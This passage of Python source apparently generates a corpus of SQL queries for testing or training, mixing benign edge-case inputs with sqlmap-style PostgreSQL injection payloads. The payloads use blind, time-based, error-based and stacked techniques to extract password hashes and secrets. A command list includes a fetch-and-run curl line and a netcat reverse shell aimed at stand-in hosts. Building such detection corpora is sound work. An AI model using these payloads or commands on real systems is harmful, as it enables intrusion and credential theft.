  {"a": ("q", ["REEF-2", "KELP-A"]), "b": ("q", ["48 hours", "7 days"], "typed:interval")}),
 ("t12_ecto_feeding", "UPDATE \"feeding_schedule\" SET \"food\" = '{a}', \"grams\" = {b} WHERE \"tank_code\" = '{c}'",
  {"a": ("q", ["mysis shrimp", "nori sheets"]), "b": ("n", ["12", "3.5"]), "c": ("q", ["REEF-2", "KELP-A"])}),
 # locksmith call-outs -- PHP: PDO::query with string building, SET LOCAL from a settings form
 ("t12_pdo_callouts", "SELECT callout_id, address, lock_type FROM locksmith_callouts WHERE postcode LIKE '{a}%' AND lock_type = '{b}' ORDER BY received_at DESC LIMIT {c} OFFSET {d}",
  {"a": ("q", ["BS8", "M14 5"]), "b": ("q", ["euro cylinder", "mortice 5-lever"]), "c": ("n", ["20", "50"]), "d": ("n", ["0", "100"])}),
 ("t12_pdo_key_blanks", "SELECT blank_code, profile, cuts FROM key_blanks WHERE profile = '{a}' AND cuts = {b} AND maker_id = {c}",
  {"a": ("q", ["UL050", "YA-1"]), "b": ("n", ["5", "6"]), "c": ("n", ["2", "17"])}),
 ("t12_pdo_report_timeout", "SET LOCAL statement_timeout = '{a}'",
  {"a": ("q", ["30s", "2min"], "typed:duration")}),
 ("t12_gorm_archive_count", "SELECT count(*) FROM archive.{a} WHERE created_at < '{b}'",
  {"a": ("ident", ["callouts_2023", "rescue_reports_2022"]), "b": ("q", ["2024-01-01", "2023-07-01"], "typed:date")}),
]
TAG = "$val$"
CLOSER = closers(TAG)
segments, edit = corpus_kit.slot_editing(CLOSER)     # the kit's slot editing, with this corpus's closing quotes

# benign values every slot type takes besides the template's own: their
# skeletons are the template's reference skeletons
CANON = {"q": ["y", "", "Ní Mhaonaigh", "a b", "2026-02-03", "10%", "isn't"], "e": ["y", "", "won't", "D:\\scores", "col\tcol", "top\nbottom"],
         "d": ["y", "", "won't", "\"q\""], "qi": ["y", "Col \"X\"", "part 3"], "n": ["2", "0", "-4", "1.5", "250000", "0.25"],
         "bool": ["true", "false", "TRUE", "False"], "list": ["3", "3, 4", "9,10,11", "12, 13, 14, 15"], "dir": ["ASC", "DESC", "asc", "desc"],
         "col": [], "ident": []}
ref_skeletons = by_template(partial(corpus_kit.ref_skeletons, canon=CANON))
CLAUSES = ("SELECT", "FROM", "WHERE", "GROUP", "HAVING", "ORDER", "LIMIT", "OFFSET", "SET", "VALUES", "RETURNING", "TO", "INTO")
slot_info = by_template(partial(corpus_kit.slot_facts, closer=CLOSER, clauses=CLAUSES))


# ---------------------------------------------------------------- benign input pools
POOLS = {
 "input_apostrophe_names": ["Siobhán Ó Ceallaigh", "D'Angelo Strad copy", "Val-d'Isère Lift 4", "Ta'u Island", "O'Hare-Bianchi", "Ka'ala summit",
   "Aimée d'Aubigny", "the tenor's wig", "Mont-d'Arbois", "Ya'akov Ben-Ami", "Hi'iaka crater", "Connor O'Mahony", "Pen-y-ghent's west face",
   "L'Isle-sur-la-Sorgue", "Cosí fan tutte (Fiordiligi's gown)", "Mi'kmaq Point", "Te Rauparaha's ridge", "Baile Átha Cliath's quay", "A'Chralaig",
   "Kealoha-O'Neill", "Lu'ukia", "Dun Laoghaire's pier", "Ma'ale Adumim", "Sainte-Foy-d'Aigrefeuille", "Tu'iono Finau"],
 "input_plain": ["lava lake", "harmonic tremor", "powdered wig", "crinoline cage", "rocky road", "soft serve", "spruce top", "purfling channel",
   "ablation stake", "blue ice", "fine line", "colour packing", "burner test", "crown line", "top note", "oakmoss absolute", "cascade style",
   "jin and shari", "pileup", "dx cluster", "parry four", "flèche", "wheel dog", "booties", "wind slab", "surface hoar", "rip current",
   "red flag", "pallasite slice", "fusion crust", "wood type", "platen press", "multiball", "flipper rebuild", "bollard pull", "towline",
   "marionette", "shadow puppet", "air scribe", "plaster jacket", "protein skimmer", "mortice lock"],
 "input_numeric_string": ["007", "12.50", "2e2", "-0", "1999", "+15", "0.000", "0000", "4,5", "10_000", "98765432109876543210", "3.", ".5", "0b101", "09"],
 "input_formatted": ["2025-11-02T06:15:00-03:00", "a1b2c3d4-0000-4e5f-8a9b-0c1d2e3f4a5b", "NL91ABNA0417164300", "+354 555 0199", "LOT#2025/117-B",
   "06:15", "EH1 1YZ", "v2.14.0-beta.3", "NOK 12 450,00", "4000 0566 5566 5556", "2028-02-29", "198.51.100.42", "G-BXLP", "979-10-90636-07-1",
   "1.234.567,89", "#ff8800", "/v1/tanks/REEF-2/readings?since=2025-01-01", "19°25'16\"N 155°17'12\"W", "Q3/2025", "P1DT12H", "0755",
   "2025-06-30 23:59:59+09", "30/06/2025", "VEI 3", "EU 42 / UK 14", "AFM-50123-R2", "CW 28 WPM", "S 64.1466, W 21.9426", "-12.5 °C", "14.2 MHz",
   "ECTP21@45", "7/16\" nut", "HC-0042 (L femur)", "ISO 3166-2:IS-1", "pH 8.2"],
 "input_unicode": ["Eyjafjallajökull", "火山性微動", "Ἀθῆναι", "Шереметьево", "🌋 eruption watch", "تَاتُو", "Smørrebrød", "Ağrı Dağı",
   "ＳＥＬＥＣＴ　ｆｒｏｍ", "soft\u00adhyphen", "± 0.02 mm", "ﬂipper", "Straße", "a\u0308", "にほんご", "ᐃᓄᒃᑎᑐᑦ", "Þórsmörk", "Höfn",
   "ትግርኛ", "🎻 violin", "Łódź Kaliska", "Hạ Long", "Piñón", "Kōbe-shi", "𝔣𝔯𝔞𝔨𝔱𝔲𝔯", "Ελληνικά"],
 "input_json_text": ['{"tank": "REEF-2", "ph": 8.2}', '[{"note": "don\'t overfeed"}]', '{"where": "x=1 or y=2"}', 'true', '{"cmd": "DELETE FROM logs"}',
   '{"path": "C:\\\\fossils\\\\scan.ply"}', '{"v": -1.5e-7, "ok": null}', '["\'", "--", "/*", ";"]', '{"q": "\' OR \'1\'=\'1"}', '{}',
   '{"a": [[1, 2], [3, {"b": 4}]]}', '{"order": "desc", "limit": 50}', '{"pg_sleep": 10}', '"plain string"'],
 "input_url_email": ["https://tanks.example.org/reef-2?view=chart&range=7d", "mailto:wardrobe+wigs@opera.example", "ftp://scans.example.net/fossils/HC-0042.ply",
   "d'arcy.fencer@example.fr", "https://example.com/q?s=union+select+1", "http://[2001:db8::42]:8443/metrics", "tel:+1-808-555-0142",
   "https://example.org/docs#select-a-truck", "x@y.io", "https://example.net/a%2Fb;c=d?e=%27f%27", "geo:64.1466,-21.9426", "urn:isbn:9780141439518"],
 "input_sql_words": ["Union Station", "Select Harvest", "Drop Zone Skatepark", "Inner Join Quartet", "Table Rock", "Insert Studio", "Sleepy Bear",
   "Where Eagles Dare", "Order of Saint John", "Grant Park", "Execute Ltd", "Null Point Gallery", "Like Minds Tattoo", "From Here to Eternity",
   "Case Study Bakery", "Having Fun Arcade", "Truncate Hair", "Update Salon", "Delete & Co", "Or Akiva", "And So To Bed",
   "Create Space", "Alter Ego Wigs", "Declare Independence", "Cast Away", "Begin Again", "Commit Cycles", "Rollback Rollers", "Values Ice Cream",
   "Limit Break", "Offset Printing Co"],
 "input_punctuation": ["?!", ";", "***", "\\\\", "#7", "50%", "(tbc)", "[wip]", "{y}", "<empty>", "x;y", "---", "/* */", "||", "…", "¿qué?",
   "@tower3", "£4", "a=b", "'single'", "\"double\"", "&&", ":=", "$1", "_%", "3/4", "~", "o_O", "`x`", "''", "--+", "#!"],
 "input_whitespace": ["  two leading", "two trailing  ", "tab\there", "first line\nsecond line", "\r", "big    gap", "    ", "\t\t", "end\n", "x\r\ny", "\u00a0nbsp"],
}
SENTS = ["Tremor amplitude doubled after midnight; the webcam shows glow.", "Wig 14 needs re-lacing -- the front edge is lifting.",
 "Select the pistachio tub first, it expires Friday.", "Union break at 3, so the fitting moves to 4.", "She wrote: \"don't varnish before the glue cures\".",
 "Is 2 > 1? Only if the stake was re-drilled.", "Drop the booties at the kennel door; the gate sticks.", "Order #8812 arrived with two broken flippers (replaced).",
 "Delete the duplicate pit record once the forecaster checks it.", "We'll launch at dawn, or stand down if gusts exceed 8 kt.",
 "Matrix is soft sandstone; 40 h with the air scribe so far.", "Note: /* legacy */ tags remain for the old catalogue.",
 "Tide turning at 14:10; tug Kent to berth 7 ASAP.", "pH fell to 7.9 overnight -- check the kalkwasser doser.",
 "Rip current at the north end, red flag up until further notice.", "Fusion crust intact; weigh again after the humidity settles."]


def typed_value(r, knd):
    """(value, family) for a slot read as a value of kind knd."""
    if knd == "date":
        return rdate(r, 2018, 2027), "input_formatted"
    if knd == "ts":
        return "%s %02d:%02d%s" % (rdate(r, 2019, 2027), r.randint(0, 23), r.choice([0, 5, 30, 59]), r.choice(["", "", ":00", "+00", "-05", "+09:30"])), "input_formatted"
    if knd == "time":
        return "%02d:%02d%s" % (r.randint(0, 23), r.choice([0, 10, 20, 30, 45]), r.choice(["", "", ":00"])), "input_formatted"
    if knd == "interval":
        if r.random() < 0.15:
            return r.choice(["PT6H", "P2D", "1 day 6 hours", "01:30:00", "2 weeks 3 days"]), "input_formatted"
        return "%d %s" % (r.randint(1, 90), r.choice(["hours", "days", "minutes", "weeks", "day", "hour", "mons", "secs"])), "input_formatted"
    if knd == "days":
        return str(r.randint(1, 730)), "input_numeric_string"
    if knd == "tsquery":
        w = ["whumpf", "crack", "slab", "cornice", "hoar", "graupel", "wind", "loaded", "shooting", "debris", "crown", "propagation"]
        return r.choice(["%s & %s" % (r.choice(w), r.choice(w)), "%s:*" % r.choice(w)[:4], "%s | %s" % (r.choice(w), r.choice(w)),
                         "!%s" % r.choice(w), "%s <-> %s" % (r.choice(w), r.choice(w)), "(%s | %s) & %s" % (r.choice(w), r.choice(w), r.choice(w))]), "input_formatted"
    if knd == "fname":
        return r.choice(["jobs_%d_q%d" % (r.randint(2020, 2026), r.randint(1, 4)), "export-%s" % rdate(r), "run_%04d" % r.randint(0, 9999),
                         "%s_%s" % (rword(r, 5), rword(r, 3))]), "input_formatted"
    if knd == "duration":
        return r.choice(["%ds" % r.randint(1, 300), "%dms" % r.randint(50, 9000), "%dmin" % r.randint(1, 30), str(r.randint(0, 600000)), "%d h" % r.randint(1, 3)]), \
            "input_formatted"
    if knd == "json":
        return r.choice([str(r.randint(0, 9)), "\"%s\"" % rword(r, 5), "true", "false", "null", "[%d, %d]" % (r.randint(0, 9), r.randint(0, 9)),
                         "{\"level\": %d}" % r.randint(1, 5), "%d.%d" % (r.randint(0, 9), r.randint(0, 99))]), "input_formatted"
    if knd == "suffix":
        return "%d_%02d" % (r.randint(2019, 2026), r.randint(1, 12)), "input_identifier"
    raise KeyError(knd)


# ---------------------------------------------------------------- what an attacker goes after
# (table, login column, secret column, a known login)
LOOT = [("staff_accounts", "login", "password_hash", "admin"), ("wardrobe_users", "email", "pw_digest", "head.wardrobe@opera.example"),
        ("studio_artists", "handle", "api_key", "owner"), ("observatory_users", "username", "passwd_sha", "seismo_admin"),
        ("kennel_members", "member_no", "pin_hash", "M0001"), ("arcade_operators", "op_login", "secret_token", "root"),
        ("dispatch_users", "callsign", "pwd", "dispatcher"), ("lab_accounts", "user_name", "password", "curator")]
HOSTS = ["oob.example.net", "c2.example.org", "callback.example.com", "x9.attacker.example", "interact.example.io", "dns.exfil.example"]
IPS = ["192.0.2.10", "198.51.100.77", "203.0.113.45", "192.0.2.199"]
FILES = ["/etc/passwd", "/etc/shadow", "/etc/hostname", "/proc/self/cmdline", "/proc/net/tcp", "/var/lib/postgresql/.psql_history",
         "/var/lib/postgresql/15/main/postgresql.auto.conf", "pg_hba.conf", "postmaster.opts", "../../../../etc/passwd", "/root/.bash_history", "/srv/app/.env"]
CMDS = ["id", "whoami", "uname -a", "hostname -f", "cat /etc/passwd", "ls -la /tmp", "ip a", "ps -ef", "printenv", "curl -s http://oob.example.net/p | sh",
        "ping -c 1 oob.example.net", "nc -e /bin/sh 192.0.2.10 4444"]
ALNUM = "abcdefghijklmnopqrstuvwxyz0123456789_"


def loot(r):
    return r.choice(LOOT)


def target(r):
    """A value an attacker wants to read (a scalar expression)."""
    t, u, p, who = loot(r)
    n = r.randint(0, 9)
    return r.choice([
        "version()", "current_user", "session_user", "current_database()", "inet_server_addr()", "inet_server_port()", "current_setting('data_directory')",
        "current_setting('config_file')", "current_setting('hba_file')", "pg_postmaster_start_time()", "current_setting('server_version_num')",
        "(SELECT %s FROM %s WHERE %s='%s')" % (p, t, u, who), "(SELECT %s FROM %s ORDER BY 1 LIMIT 1 OFFSET %d)" % (u, t, n),
        "(SELECT rolpassword FROM pg_authid WHERE rolname='postgres')", "(SELECT passwd FROM pg_shadow WHERE usesuper LIMIT 1)",
        "(SELECT string_agg(rolname,',') FROM pg_roles WHERE rolsuper)", "(SELECT query FROM pg_stat_activity WHERE pid<>pg_backend_pid() LIMIT 1)",
        "(SELECT relname FROM pg_class WHERE relkind='r' AND relnamespace='public'::regnamespace ORDER BY relname LIMIT 1 OFFSET %d)" % n,
        "(SELECT attname FROM pg_attribute WHERE attrelid='%s'::regclass AND attnum=%d)" % (t, r.randint(1, 6)),
        "(SELECT datname FROM pg_database WHERE NOT datistemplate ORDER BY oid LIMIT 1 OFFSET %d)" % (n % 4),
        "(SELECT string_agg(extname,',') FROM pg_extension)", "(SELECT setting FROM pg_settings WHERE name='listen_addresses')",
        "(SELECT usename FROM pg_user WHERE usecreatedb LIMIT 1)", "(SELECT table_name FROM information_schema.tables WHERE table_schema=current_schema() LIMIT 1 OFFSET %d)" % n])


def probe(r, e=None):
    """A yes/no question about a secret, character by character (CHR/ASCII and friends)."""
    e = e or target(r)
    pos = r.randint(1, 20)
    c = r.choice([r.randint(97, 122), r.randint(48, 57), r.randint(65, 90), 95, 46, 36])
    ch = chr(r.randint(97, 122))
    return r.choice([
        "ascii(substr((%s)::text,%d,1))=%d" % (e, pos, c), "ascii(substring((%s)::text from %d for 1))>%d" % (e, pos, c),
        "substr((%s)::text,%d,1)=chr(%d)" % (e, pos, c), "chr(ascii(substr((%s)::text,%d,1)))='%s'" % (e, pos, ch),
        "get_byte(convert_to((%s)::text,'UTF8'),%d)<%d" % (e, pos - 1, c), "strpos((%s)::text,chr(%d))>0" % (e, c),
        "(%s)::text ^@ '%s'" % (e, rword(r, r.randint(1, 3))), "ascii(right(left((%s)::text,%d),1)) BETWEEN %d AND %d" % (e, pos, c - 10, c),
        "length((%s)::text)>%d" % (e, r.randint(1, 48)), "(%s)::text ~ '^[%s-%s]'" % (e, ch, chr(min(ord(ch) + 5, 122))),
        "md5((%s)::text) LIKE '%s%%'" % (e, "".join(r.choice("0123456789abcdef") for _ in range(2))),
        "octet_length((%s)::text)=%d" % (e, r.randint(4, 64)), "position(chr(%d) in (%s)::text)=%d" % (c, e, pos)])


# ---------------------------------------------------------------- sqlmap: payloads of its PostgreSQL XML tests, boundaries, tampers
def marker(r):
    """kb.chars start/stop: the boundary letter q around three low-frequency letters."""
    return "q" + "".join(r.choice("zqxjkvbp") for _ in range(3)) + "q"


def safe_cast(col):
    """sqlmap's null- and type-safe column read on PostgreSQL."""
    return "COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % col


DUMP_TABLES = {"staff_accounts": ["login", "password_hash", "role"], "wardrobe_users": ["email", "pw_digest"], "studio_artists": ["handle", "api_key", "iban"],
               "observatory_users": ["username", "passwd_sha"], "kennel_members": ["member_no", "pin_hash", "phone"], "dispatch_users": ["callsign", "pwd"],
               "tattoo_bookings": ["client_email", "deposit_cents"], "consent_forms": ["client_email", "dob"], "lab_accounts": ["user_name", "password"]}


def sqlmap_query(r):
    """(expression, switch): one enumeration step of sqlmap on PostgreSQL (queries.xml, as sqlmap escapes it)."""
    k = r.randrange(20)
    tbl = r.choice(sorted(DUMP_TABLES))
    cols = DUMP_TABLES[tbl]
    n = r.randint(0, 11)
    if k < 3:
        return r.choice(["VERSION()", "CURRENT_USER", "CURRENT_SCHEMA()", "INET_SERVER_ADDR()", "SESSION_USER"]), "fingerprint"
    if k == 3:
        return "(SELECT usesuper=true FROM pg_user WHERE usename=CURRENT_USER OFFSET 0 LIMIT 1)", "--is-dba"
    if k == 4:
        return "(SELECT COUNT(DISTINCT(usename)) FROM pg_user)", "--users (count)"
    if k == 5:
        return "(SELECT DISTINCT(usename) FROM pg_user OFFSET %d LIMIT 1)" % (n % 5), "--users"
    if k == 6:
        return "(SELECT passwd FROM pg_shadow WHERE usename=%s OFFSET 0 LIMIT 1)" % chrs(r.choice(["postgres", "app", "observatory", "wardrobe_rw"])), "--passwords"
    if k == 7:
        return ("(SELECT (CASE WHEN %s THEN 1 ELSE 0 END) FROM pg_user WHERE usename=%s OFFSET 0 LIMIT 1)"
                % (r.choice(["usesuper", "usecreatedb", "userepl"]), chrs(r.choice(["postgres", "app", "reporting"])))), "--privileges"
    if k == 8:
        return "(SELECT COUNT(DISTINCT(schemaname)) FROM pg_tables)", "--dbs (count)"
    if k == 9:
        return "(SELECT DISTINCT(schemaname) FROM pg_tables OFFSET %d LIMIT 1)" % (n % 6), "--dbs"
    if k == 10:
        return "(SELECT tablename FROM pg_tables WHERE schemaname IN (%s) OFFSET %d LIMIT 1)" % (chrs("public"), n), "--tables"
    if k == 11:
        return "(SELECT COUNT(tablename) FROM pg_tables WHERE schemaname IN (%s))" % chrs(r.choice(["public", "archive", "audit"])), "--tables (count)"
    if k == 12:
        return ("(SELECT attname FROM pg_attribute b JOIN pg_class a ON a.oid=b.attrelid JOIN pg_type c ON c.oid=b.atttypid JOIN pg_namespace d ON "
                "a.relnamespace=d.oid WHERE b.attnum>0 AND a.relname=%s AND nspname=%s OFFSET %d LIMIT 1)" % (chrs(tbl), chrs("public"), n % 4)), "--columns"
    if k == 13:
        return ("(SELECT typname FROM pg_attribute b JOIN pg_class a ON a.oid=b.attrelid JOIN pg_type c ON c.oid=b.atttypid JOIN pg_namespace d ON "
                "a.relnamespace=d.oid WHERE b.attnum>0 AND a.relname=%s AND nspname=%s AND attname=%s)" % (chrs(tbl), chrs("public"), chrs(cols[0]))), "--columns (type)"
    if k == 14:
        return "(SELECT COUNT(*) FROM public.%s)" % tbl, "--count"
    if k in (15, 16):
        return "(SELECT %s FROM public.%s ORDER BY %s OFFSET %d LIMIT 1)" % (safe_cast(r.choice(cols)), tbl, cols[0], n), "--dump"
    if k == 17:
        return ("(SELECT COUNT(DISTINCT(table_name)) FROM information_schema.columns WHERE column_name LIKE %s)"
                % chrs("%" + r.choice(["pass", "pwd", "token", "key", "secret"]) + "%")), "--search"
    if k == 18:
        return "(SELECT %s FROM pg_stat_activity OFFSET %d LIMIT 1)" % (safe_cast("query"), n % 4), "--statements"
    return "(SELECT %s FROM pg_database OFFSET %d LIMIT 1)" % (safe_cast("datname"), n % 4), "--dbs (pg_database)"


def sqlmap_inference(r):
    e, sw = sqlmap_query(r)
    x = r.random()
    if x < 0.7:
        v = r.choice([r.randint(97, 122), r.randint(48, 57), r.randint(65, 90), 95, 64, 36])
        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))>%d" % (e, r.randint(1, 32), r.choice(bisection(v))), sw
    if x < 0.85:
        # the length is read as a number, digit by digit
        return "ASCII(SUBSTRING((LENGTH(%s))::text FROM %d FOR 1))>%d" % (e, r.randint(1, 2), r.choice(bisection(r.randint(48, 57)))), sw + " (length)"
    if x < 0.95:
        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))=%d" % (e, r.randint(1, 20), r.randint(32, 126)), sw + " (validation)"
    return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))>0" % (e, r.randint(1, 40)), sw + " (end check)"


def sqlmap_tests(r, vector):
    """[(family, title, dbms, place, where, payload, needs_comment)].
    place: cond (after the value) | order (ORDER BY/GROUP BY list) | repl (the
    whole value) | stack (a statement after ;) | union.  where: 1 original
    value, 2 negative value, 3 replaced."""
    R, R1, R2, R3 = randnum(r), randnum(r), randnum(r), randnum(r)
    S = rstr(r, 4)
    T = r.choice([5, 5, 5, 5, 5, 2, 3, 7, 10])
    D1, D2 = chrs(marker(r)), chrs(marker(r))
    if vector:
        INF, sw = sqlmap_inference(r)
        Q, sw2 = sqlmap_query(r)
        if not Q.startswith("("):
            Q = "(SELECT %s)" % safe_cast(Q)
        tag = ":" + sw
    else:
        INF = r.choice(["%d=%d" % (R1, R1)] * 5 + ["%d=%d" % (R1, R2), "%d>%d" % (max(R1, R2) + 1, min(R1, R2))])
        Q = "(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))" % (R2, R2)
        tag = ":detection"
    H = "%d000000" % T
    sl = lambda: "(SELECT %d FROM PG_SLEEP(%d))" % (R, T)
    cs = lambda then: "(CASE WHEN (%s) THEN %s ELSE %d END)" % (INF, then, R)
    B, TB, EB, SQ, IQ = "sqlmap_boolean_blind", "sqlmap_time_blind", "sqlmap_error_based", "sqlmap_stacked_queries", "sqlmap_inline_query"
    out = [
        (B, "AND boolean-based blind - WHERE or HAVING clause", "generic", "cond", 1, "AND %s" % INF, False),
        (B, "OR boolean-based blind - WHERE or HAVING clause", "generic", "cond", 2, "OR %s" % INF, False),
        (B, "OR boolean-based blind - WHERE or HAVING clause (NOT)", "generic", "cond", 1, "OR NOT %s" % INF, False),
        (B, "AND boolean-based blind - WHERE or HAVING clause (comment)", "generic", "cond", 1, "AND %s" % INF, True),
        (B, "OR boolean-based blind - WHERE or HAVING clause (comment)", "generic", "cond", 2, "OR %s" % INF, True),
        (B, "AND boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "cond", 1,
         "AND %d=(SELECT (CASE WHEN (%s) THEN %d ELSE (SELECT %d UNION SELECT %d) END))" % (R, INF, R, R1, R2), True),
        (B, "OR boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "cond", 2,
         "OR %d=(SELECT (CASE WHEN (%s) THEN %d ELSE (SELECT %d UNION SELECT %d) END))" % (R, INF, R, R1, R2), True),
        (B, "Boolean-based blind - Parameter replace (original value)", "generic", "repl", 3,
         "(SELECT (CASE WHEN (%s) THEN [ORIGVALUE] ELSE (SELECT %d UNION SELECT %d) END))" % (INF, R1, R2), False),
        (B, "HAVING boolean-based blind - WHERE, GROUP BY clause", "generic", "cond", 1, "HAVING %s" % INF, False),
        (B, "PostgreSQL AND boolean-based blind - WHERE or HAVING clause (CAST)", PG, "cond", 1,
         "AND (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (INF, chrs(S)), False),
        (B, "PostgreSQL OR boolean-based blind - WHERE or HAVING clause (CAST)", PG, "cond", 2,
         "OR (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (INF, chrs(S)), False),
        (B, "PostgreSQL boolean-based blind - Parameter replace", PG, "repl", 3, "(SELECT (CASE WHEN (%s) THEN %d ELSE 1/(SELECT 0) END))" % (INF, R), False),
        (B, "PostgreSQL boolean-based blind - Parameter replace (original value)", PG, "repl", 3,
         "(SELECT (CASE WHEN (%s) THEN [ORIGVALUE] ELSE 1/(SELECT 0) END))" % INF, False),
        (B, "PostgreSQL boolean-based blind - Parameter replace (GENERATE_SERIES)", PG, "repl", 3,
         "(SELECT * FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)" % (R, R, INF), False),
        (B, "PostgreSQL boolean-based blind - Parameter replace (GENERATE_SERIES - original value)", PG, "repl", 3,
         "(SELECT [ORIGVALUE] FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)" % (R, R, INF), False),
        (B, "PostgreSQL boolean-based blind - ORDER BY, GROUP BY clause", PG, "order", 1, ",(SELECT (CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END))" % INF, False),
        (B, "PostgreSQL boolean-based blind - ORDER BY clause (original value)", PG, "order", 1,
         ",(SELECT (CASE WHEN (%s) THEN [ORIGVALUE] ELSE 1/(SELECT 0) END))" % INF, False),
        (B, "PostgreSQL boolean-based blind - ORDER BY clause (GENERATE_SERIES)", PG, "order", 1,
         ",(SELECT * FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)" % (R, R, INF), False),
        (B, "PostgreSQL boolean-based blind - Stacked queries", PG, "stack", 1, ";SELECT (CASE WHEN (%s) THEN %d ELSE 1/(SELECT 0) END)" % (INF, R), True),
        (B, "PostgreSQL boolean-based blind - Stacked queries (GENERATE_SERIES)", PG, "stack", 1,
         ";SELECT * FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1" % (R, R, INF), True),
        (TB, "PostgreSQL > 8.1 AND time-based blind", PG, "cond", 1, "AND %d=%s" % (R, cs(sl()) if vector else sl()), False),
        (TB, "PostgreSQL > 8.1 OR time-based blind", PG, "cond", 2, "OR %d=%s" % (R, cs(sl()) if vector else sl()), False),
        (TB, "PostgreSQL > 8.1 AND time-based blind (comment)", PG, "cond", 1, "AND %d=%s" % (R, cs(sl()) if vector else sl()), True),
        (TB, "PostgreSQL > 8.1 OR time-based blind (comment)", PG, "cond", 2, "OR %d=%s" % (R, cs(sl()) if vector else sl()), True),
        (TB, "PostgreSQL AND time-based blind (heavy query)", PG, "cond", 1,
         "AND %d=%s" % (R, cs("(SELECT COUNT(*) FROM GENERATE_SERIES(1,%s))" % H) if vector else "(SELECT COUNT(*) FROM GENERATE_SERIES(1,%s))" % H), False),
        (TB, "PostgreSQL OR time-based blind (heavy query)", PG, "cond", 2,
         "OR %d=%s" % (R, cs("(SELECT COUNT(*) FROM GENERATE_SERIES(1,%s))" % H) if vector else "(SELECT COUNT(*) FROM GENERATE_SERIES(1,%s))" % H), False),
        (TB, "PostgreSQL AND time-based blind (heavy query - comment)", PG, "cond", 1, "AND %d=(SELECT COUNT(*) FROM GENERATE_SERIES(1,%s))" % (R, H), True),
        (TB, "PostgreSQL OR time-based blind (heavy query - comment)", PG, "cond", 2, "OR %d=(SELECT COUNT(*) FROM GENERATE_SERIES(1,%s))" % (R, H), True),
        (TB, "PostgreSQL > 8.1 time-based blind - Parameter replace", PG, "repl", 3, cs(sl()) if vector else sl(), False),
        (TB, "PostgreSQL time-based blind - Parameter replace (heavy query)", PG, "repl", 3, "(SELECT COUNT(*) FROM GENERATE_SERIES(1,%s))" % H, False),
        (TB, "PostgreSQL > 8.1 time-based blind - ORDER BY, GROUP BY clause", PG, "order", 1, ",%s" % (cs(sl()) if vector else sl()), False),
        (TB, "PostgreSQL time-based blind - ORDER BY, GROUP BY clause (heavy query)", PG, "order", 1, ",(SELECT COUNT(*) FROM GENERATE_SERIES(1,%s))" % H, False),
        (EB, "PostgreSQL AND error-based - WHERE or HAVING clause", PG, "cond", 1, "AND %d=CAST(%s||%s::text||%s AS NUMERIC)" % (R, D1, Q, D2), False),
        (EB, "PostgreSQL OR error-based - WHERE or HAVING clause", PG, "cond", 2, "OR %d=CAST(%s||%s::text||%s AS NUMERIC)" % (R, D1, Q, D2), False),
        (EB, "PostgreSQL error-based - Parameter replace", PG, "repl", 3, "(CAST(%s||%s::text||%s AS NUMERIC))" % (D1, Q, D2), False),
        (EB, "PostgreSQL error-based - Parameter replace (GENERATE_SERIES)", PG, "repl", 3,
         "(CAST(%s||(SELECT 1 FROM GENERATE_SERIES(%d,%d,CASE WHEN (%d=%d) THEN 1 ELSE 0 END) LIMIT 1)::text||%s AS NUMERIC))" % (D1, R, R, R3, R3, D2), False),
        (EB, "PostgreSQL error-based - ORDER BY, GROUP BY clause", PG, "order", 1, ",(CAST(%s||%s::text||%s AS NUMERIC))" % (D1, Q, D2), False),
        (EB, "PostgreSQL error-based - ORDER BY, GROUP BY clause (GENERATE_SERIES)", PG, "order", 1,
         ",(CAST(%s||(SELECT 1 FROM GENERATE_SERIES(%d,%d,CASE WHEN (%d=%d) THEN 1 ELSE 0 END) LIMIT 1)::text||%s AS NUMERIC))" % (D1, R, R, R3, R3, D2), False),
        (SQ, "PostgreSQL > 8.1 stacked queries (comment)", PG, "stack", 1, ";SELECT %s" % (cs(sl()) if vector else "PG_SLEEP(%d)" % T), True),
        (SQ, "PostgreSQL > 8.1 stacked queries", PG, "stack", 1, ";SELECT %s" % (cs(sl()) if vector else "PG_SLEEP(%d)" % T), False),
        (SQ, "PostgreSQL stacked queries (heavy query - comment)", PG, "stack", 1,
         ";SELECT %s" % (cs("(SELECT COUNT(*) FROM GENERATE_SERIES(1,%s))" % H) if vector else "COUNT(*) FROM GENERATE_SERIES(1,%s)" % H), True),
        (SQ, "PostgreSQL stacked queries (heavy query)", PG, "stack", 1, ";SELECT COUNT(*) FROM GENERATE_SERIES(1,%s)" % H, False),
        (SQ, "PostgreSQL < 8.2 stacked queries (Glibc - comment)", PG, "stack", 1,
         ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(%d)" % T, True),
        (IQ, "PostgreSQL inline queries", PG, "repl", 3, "(SELECT %s||%s::text||%s)" % (D1, Q, D2), False),
        (IQ, "Generic inline queries", "generic", "repl", 3, "(SELECT CONCAT(CONCAT(%s,%s),%s))" % (D1, Q, D2), False),
    ]
    # a few of the other back-ends' tests, which sqlmap runs when no --dbms is given
    if r.random() < 0.12:
        hx = lambda s: "0x" + s.encode().hex()
        m1, m2 = marker(r), marker(r)
        out += [
            (B, "MySQL RLIKE boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause", "MySQL", "cond", 1,
             "RLIKE (SELECT (CASE WHEN (%s) THEN [ORIGVALUE] ELSE 0x28 END))" % INF, False),
            (B, "Microsoft SQL Server/Sybase AND boolean-based blind - WHERE or HAVING clause (IIF)", "Microsoft SQL Server", "cond", 1,
             "AND %d=IIF((%s),%d,1/0)" % (R, INF, R), False),
